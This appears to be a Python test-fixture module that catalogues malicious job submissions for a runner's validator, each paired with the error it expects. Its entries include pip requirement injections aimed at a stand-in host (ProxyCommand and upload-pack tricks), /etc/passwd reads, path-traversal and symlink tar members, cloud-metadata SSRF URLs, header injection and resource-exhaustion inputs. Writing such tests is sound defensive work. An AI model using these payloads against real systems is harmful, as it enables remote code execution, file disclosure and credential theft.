"""Messages of somebody who means harm: what each tries, and what the runner says to it."""

from __future__ import annotations

import copy
import io
import json
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

Document = dict[str, Any]


@dataclass(frozen=True)
class Hostile:
    """What it tries, how it is made of a good message (or its bytes), and what the log says of it.

    ``run``: it looks like a good one, and only its attempt can tell. ``workspace``: members of its code's archive.
    """

    tries: str
    make: Callable[[Document], Any]
    told: str
    run: bool = False
    workspace: list[tuple[tarfile.TarInfo, bytes]] = field(default_factory=list)


def setting(path: str, value: Any) -> Callable[[Document], Document]:
    """Return what sets one member of a message."""

    def make(document: Document) -> Document:
        changed = copy.deepcopy(document)
        *way, last = path.split(".")
        place = changed
        for step in way:
            place = place.setdefault(step, {})
        place[last] = value
        return changed

    return make


def as_bytes(body: bytes) -> Callable[[Document], bytes]:
    """Return what is no message at all."""
    return lambda _document: body


def edited(old: str, new: str) -> Callable[[Document], bytes]:
    """Return what changes the text of a message."""
    return lambda document: json.dumps(document).replace(old, new, 1).encode()


def _package(line: str, told: str) -> Hostile:
    return Hostile(
        f"requirement {line[:60]!r}", setting("experiment.pythonenv", ["six", line]), f"pythonenv[1]: {told}"
    )


def _filename(name: str, told: str) -> Hostile:
    return Hostile(
        f"filename {name!r}", setting("experiment.filename", name), f"experiment.filename: is {name!r}, {told}"
    )


def _module(args: list[str]) -> Callable[[Document], Document]:
    return lambda document: setting("experiment.args", args)(setting("experiment.filename", "-m")(document))


def _label(label: str) -> Hostile:
    value = {"qualified": "file:///tmp/x", "mutable": True}
    return Hostile(f"artifact {label[:30]!r}", _labelled(label, value), f"artifacts.{label[:20]!r}"[:-1])


def _labelled(label: str, value: Any) -> Callable[[Document], Document]:
    def make(document: Document) -> Document:
        changed = copy.deepcopy(document)
        changed["experiment"]["artifacts"][label] = value
        return changed

    return make


def _extra(tries: str, told: str, *, run: bool = False, **members: Any) -> Hostile:
    return Hostile(tries, _labelled("extra", {"mutable": False, "unpack": False, **members}), told, run)


def _member(name: str, data: bytes = b"x", **members: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    for attribute, value in members.items():
        setattr(info, attribute, value)
    data = data if info.isreg() else b""
    info.size = len(data)
    return info, data


def _unpacked(tries: str, told: str, *made: tuple[tarfile.TarInfo, bytes]) -> Hostile:
    return Hostile(tries, lambda document: document, told, run=True, workspace=list(made))


def packed(members: list[tuple[tarfile.TarInfo, bytes]], script: bytes) -> bytes:
    """Return an archive of code."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for info, data in [_member("main.py", script), *members]:
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _many(document: Document) -> Document:
    changed = copy.deepcopy(document)
    changed["experiment"]["artifacts"] |= {f"a{number}": {"qualified": "file:///x"} for number in range(1001)}
    return changed


_NO_OPTION = "must be a requirement without options"
_ONE_LINE = "must be a single line"
_BY_URL = "must name a package by a URL"
_OUTSIDE = "must not name a file or directory outside"
_DASH = "must not have a host or revision that begins with a dash"

HOSTILE = [
    # Bytes
    Hostile("no JSON", as_bytes(b"{ rm -rf /"), "line 1, column 3"),
    Hostile("bad UTF-8", as_bytes(b'{"experiment": "\xff"}'), "UTF-8 at byte 16"),
    Hostile("a million levels", as_bytes(b"[" * 1_000_000), "levels"),
    Hostile("65 levels", setting("x", json.loads("[" * 65 + "]" * 65)), "more than 64 levels"),
    Hostile("millions of empty lists", as_bytes(b'{"a": [' + b"[]," * 1_500_000 + b"[]]}"), "1000000 values"),
    Hostile("a number of 100 000 digits", edited('"cpus": 1', '"cpus": ' + "1" * 100_000), "100000 digits"),
    Hostile("1e999", edited('"cpus": 1', '"cpus": 1e999'), "too large"),
    Hostile("NaN", edited('"cpus": 1', '"cpus": NaN'), "the number NaN"),
    Hostile("a member twice", edited('"args"', '"filename": "x.py", "args"'), "'filename' twice"),
    Hostile("17 megabytes", as_bytes(b" " * 17_000_000), "17000000 bytes"),
    Hostile("a list", as_bytes(b"[]"), "it must be an object"),
    # Options and paths
    _filename("-c", "which would be an option"),
    _filename("--version", "which would be an option"),
    _filename("/etc/profile.d/x.py", "but must name a file inside"),
    _filename("../../x.py", "but must name a file inside"),
    _filename("a/../../x.py", "but must name a file inside"),
    _filename("x.py\nimport os", "which has control characters"),
    Hostile(
        "a file name of 300 letters", setting("experiment.filename", "x" * 300), "longer than the name of a file can be"
    ),
    Hostile(
        "half a character in the file name", setting("experiment.filename", "\udc80.py"), "filename: has a NUL, or half"
    ),
    Hostile("-m and then -c", _module(["-c", "x"]), "experiment.args: must begin with the dotted name"),
    Hostile("args without an end", setting("experiment.args", ["'"]), "a quote is not closed"),
    Hostile("a million args", setting("experiment.args", ["x"] * 900_000), "experiment.args: have 1799999 characters"),
    Hostile("a NUL in the key", setting("experiment.key", "a\0b"), "experiment.key: has a NUL"),
    Hostile("a key of 2000 characters", setting("experiment.key", "k" * 2000), "experiment.key: has 2000 characters"),
    # Requirements
    _package("--index-url=http://evil.invalid", _NO_OPTION),
    _package("-r /etc/passwd", _NO_OPTION),
    _package("-e .", _NO_OPTION),
    _package("six --global-option=x", _NO_OPTION),
    _package("six\n--index-url=http://evil.invalid", _ONE_LINE),
    _package("six\u2028-r /etc/passwd", _ONE_LINE),
    _package("six \\", _ONE_LINE),
    _package("six @ https://evil.invalid/${AMQP_URL}", "must not use variables"),
    _package("/etc", _OUTSIDE),
    _package("../../../etc", _OUTSIDE),
    _package("file:///etc/passwd", _BY_URL),
    _package("six @ ../x", _BY_URL),
    _package("git+file:///etc", _BY_URL),
    _package("git+ext::sh%20x", _BY_URL),
    _package("git+ssh://-oProxyCommand=id/x.git", _DASH),
    _package("git+https://evil.invalid/x.git@--upload-pack=id", _DASH),
    _package("hg+https://evil.invalid/x@--config=alias.id=!id", _BY_URL),
    _package("-e git+https://evil.invalid/x.git#egg=../../../x", "must not have '../../../x' for an egg"),
    _package("https://evil.invalid/x.zip#subdirectory=../../../etc", "must not have a subdirectory"),
    _package("-e git+https://" + "#egg=" * 200_000 + " x", "has 1000017 characters"),
    Hostile("a million requirements", setting("config.pip", ["six"] * 500_000), "config.pip: has 500000 lines"),
    # Labels
    *map(_label, ("..", ".", "", "a/b", "../x", "/etc", "a\\b", "_runner", "a\nb", "a\0b", "é" * 200)),
    Hostile("1001 artifacts", _many, "artifacts: are 100"),
    # Artifacts
    _extra("a password in a URL", "no user or password", qualified="s3://me:hunter2@host/b/k"),
    _extra("another scheme", "must start with one of", qualified="ftp://host/x"),
    _extra(
        "a file of another machine",  # read as clients mean it, who write two slashes
        "'/evil.invalid/etc' is outside of the directories that this runner may use",
        run=True,
        qualified="file://evil.invalid/etc/passwd",
    ),
    _extra(
        "a bucket ..",
        "impossible bucket",
        qualified="s3://host/../k",
        credentials={"aws": {"access_key": "", "secret_access_key": ""}},
    ),
    _extra(
        "two kinds of credentials",
        "has both aws and jwt",
        qualified="s3://host/b/k",
        credentials={"aws": {}, "jwt": {}},
    ),
    _extra(
        "a header in a token",
        "no key, token or region has",
        qualified="gs://b/k",
        credentials={"jwt": {"token": "a\r\nX: y"}},
    ),
    _extra("a hash that is none", "must be a SHA-256", qualified="file:///tmp/x", hash="../../x"),
    _extra("results by http", "can only be read", qualified="http://127.0.0.1:1/x", mutable=True),
    Hostile(
        "an option for Singularity",
        _labelled("_singularity", {"qualified": "docker://--help"}),
        "_singularity.qualified",
    ),
    # Environment
    Hostile("a variable A=B", setting("config.env", {"LD_PRELOAD=/x": "y"}), "is not the name of a variable"),
    Hostile("a NUL in a variable", setting("config.env", {"A": "x\0B=y"}), "config.env.A: has a NUL"),
    Hostile(
        "an environment of 8 MB",
        setting("config.env", {f"A{n}": "x" * 80_000 for n in range(100)}),
        "config.env: is too large",
    ),
    Hostile(
        "10 000 secrets",
        setting("config.env", {f"TOKEN{n}": f"secret-{n}" for n in range(10_000)}),
        "10000 keys, tokens",
    ),
    # Numbers
    Hostile("less than nothing", setting("experiment.resources_needed.ram", "-1gb"), "must be a size"),
    Hostile(
        "more than all", setting("experiment.resources_needed.hdd", "9" * 400), "experiment.resources_needed.hdd: is"
    ),
    Hostile("a time after all times", setting("experiment.time_added", 1e300), "must be a number of seconds"),
    Hostile("an eternity", setting("config.experimentLifetime", "9" * 200 + "h"), "must be a duration"),
    Hostile("an interpreter's path", setting("experiment.pythonver", "/bin/sh"), "must be a Python version"),
    # What only the attempt can tell
    _extra("a file of this machine", "--file-root", run=True, qualified="file:///etc/passwd"),
    _extra(
        "a file of this machine, round a corner",
        "--file-root",
        run=True,
        qualified="file://STORE/../../../../../../etc/passwd",
    ),
    _extra(
        "the cloud's credentials", "find their own credentials", run=True, qualified="http://169.254.169.254/latest/x"
    ),
    _extra("these, by another name", "find their own credentials", run=True, qualified="http://0xA9FEA9FE/latest/x"),
    _extra(
        "a request in a URL",
        "has control characters in it",
        qualified="http://127.0.0.1:1/a HTTP/1.1\r\nX: y\r\n\r\nGET /b",
    ),
    _unpacked("a member ../x", "../evil", _member("../evil.py")),
    _unpacked("a member /x", "evil", _member("/tmp/evil.py")),
    _unpacked(
        "a link that leads out, and a member behind it",
        "way",
        _member("way", type=tarfile.SYMTYPE, linkname="/tmp"),
        _member("way/evil.py"),
    ),
    _unpacked("a device", "null", _member("null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)),
    Hostile(
        "a local file by a relative path",
        setting("experiment.pythonenv", ["etc/apt"]),
        "'etc/apt' is no file or directory of the workspace",
        run=True,
    ),
]
